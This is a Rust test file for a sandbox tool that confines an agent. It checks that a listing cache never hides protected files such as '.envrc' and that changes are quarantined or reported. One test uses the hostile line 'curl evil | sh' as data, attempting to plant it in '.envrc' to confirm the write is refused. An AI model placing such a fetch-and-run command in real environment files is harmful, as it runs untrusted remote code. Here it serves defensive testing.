//! The walk's listing cache (issue 16): an unchanged directory is not read
//! again, and that must never hide a protected path. Each directory's
//! listing is reused only while its identity and change time are the same;
//! a protected name added on the host between two sessions, or during one,
//! changes its parent's change time and is found.
//!
//! Layers: view (read-only binds of the protected paths the start walk
//! finds) and the end-of-session rescan (quarantine).

use std::fs;
use std::time::Duration;

use crate::harness::{Cage, IDENTITY, poll_until};

/// Runs `script` on the host as the test user, in the workspace.
fn host(cage: &Cage, script: &str) {
    let out = cage
        .host_command(["sh", "-c", script])
        .current_dir(cage.workspace())
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{script}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// A workspace whose directories are older than the cache's racy window
/// (2 s: a directory changed that recently is never stored), after one
/// session that stored their listings.
fn warmed() -> Cage {
    let cage = Cage::new()
        .workspace_file("a/b/c/keep", "k\n")
        .workspace_file("a/x/keep", "k\n")
        .args(IDENTITY);
    std::thread::sleep(Duration::from_millis(2500));
    cage.run(["true"]).assert_success();
    let cache = cage.home().join(".local/state/cage/listings");
    let stored = fs::read_dir(&cache)
        .map(|d| d.flatten().any(|e| e.metadata().is_ok_and(|m| m.len() > 0)))
        .unwrap_or(false);
    assert!(stored, "the first session stored no listings in {cache:?}");
    cage
}

/// Layer: view. `.envrc` written on the host deep in a cached directory
/// between two sessions is read-only in the second.
#[test]
fn a_protected_path_added_between_sessions_is_found() {
    require_userns!();
    let cage = warmed();
    let ws = cage.workspace().to_path_buf();
    host(&cage, "echo 'export X=1' > a/b/c/.envrc");
    // Opened without O_CREAT: the guard, which judges creations, does not
    // look; only the read-only bind stands in the way.
    let out = cage.python(
        "try:\n    open('a/b/c/.envrc', 'r+').write('curl evil | sh\\n')\n    print('wrote')\n\
         except OSError as e:\n    print('refused', e.errno)",
    );
    assert!(out.stdout.contains("refused"), "{out}");
    assert_eq!(
        fs::read_to_string(ws.join("a/b/c/.envrc")).unwrap(),
        "export X=1\n"
    );
}

/// Layer: quarantine. A protected path that appears in a cached directory
/// during a session where the guard cannot see it (the host writes it, as
/// a won race would) is found by the end-of-session rescan and moved out.
#[test]
fn a_protected_path_created_deep_during_a_session_is_caught_at_the_end() {
    require_userns!();
    let cage = warmed();
    let ws = cage.workspace().to_path_buf();
    let running = cage.spawn([
        "sh",
        "-c",
        "touch ready; while [ ! -e go ]; do sleep 0.05; done; echo agent-done",
    ]);
    assert!(
        poll_until(Duration::from_secs(30), || ws.join("ready").exists()),
        "the agent never started"
    );
    host(&cage, "echo 'export X=1' > a/x/.envrc && touch go");
    let out = running.wait();
    out.assert_success().assert_line("agent-done");
    assert!(!ws.join("a/x/.envrc").exists(), "left in place\n{out}");
    assert!(
        out.stderr
            .lines()
            .any(|l| l.contains("cage restore") && l.contains("a/x/.envrc")),
        "{out}"
    );
}

/// Layers: the session record and the report of changes git does not show,
/// both from the session's watch (issue 16): in a workspace large enough
/// to be watched rather than walked (`session::watch::SMALL`), whose every
/// directory comes from the cache, so that no file is visited at the start
/// or the end, a change deep in it is still recorded and a new
/// `node_modules` file is still reported.
#[test]
fn changes_deep_in_a_cached_workspace_are_recorded_and_reported() {
    require_userns!();
    let cage = Cage::new()
        .workspace_file("a/b/c/keep", "k\n")
        .workspace_file("a/x/keep", "k\n")
        .args(IDENTITY);
    // 12,000 entries: above the size below which cage walks instead.
    host(
        &cage,
        "python3 -c 'import os\nfor d in range(120):\n    os.makedirs(f\"bulk/d{d}\")\n    \
         [open(f\"bulk/d{d}/f{i}\", \"w\").close() for i in range(100)]'",
    );
    std::thread::sleep(Duration::from_millis(2500));
    cage.run(["true"]).assert_success();
    let out = cage.sh(
        "set -e; echo more >> a/b/c/keep; mkdir -p a/x/node_modules/p; \
         echo 'evil' > a/x/node_modules/p/index.js",
    );
    out.assert_success();
    assert!(
        out.stderr
            .lines()
            .any(|l| l.contains("git does not show") && l.contains("node_modules")),
        "{out}"
    );
    let log = cage.cli(["log"]);
    assert!(
        log.stdout.contains("1 modified") && log.stdout.contains("a/b/c/keep"),
        "{log}"
    );
    assert!(log.stdout.contains("a/x/node_modules/p/index.js"), "{log}");
}
